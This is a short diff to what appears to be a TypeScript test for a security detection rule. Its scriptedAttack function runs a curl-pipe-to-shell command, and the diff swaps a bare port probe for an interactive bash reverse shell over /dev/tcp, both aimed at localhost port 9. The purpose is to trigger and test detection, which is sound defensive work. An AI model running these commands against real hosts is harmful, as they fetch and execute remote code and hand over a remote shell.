@@ -61,7 +61,9 @@ async function scriptedAttack(): Promise<void> {
   const run = (file: string, args: string[]) =>
     new Promise<void>((resolve) => execFile(file, args, () => resolve()));
   await run('sh', ['-c', 'curl -s --max-time 1 http://127.0.0.1:9/omega-dashboard-test | sh']);
-  await run('bash', ['-c', 'exec 3<>/dev/tcp/127.0.0.1/9 || true']);
+  // An interactive shell with its output on the socket: `exec 3<>/dev/tcp/...` alone is how exec
+  // health probes test a port, and the shipped rule rightly leaves it alone.
+  await run('bash', ['-c', 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1 || true']);
 }
 
 async function waitFor(
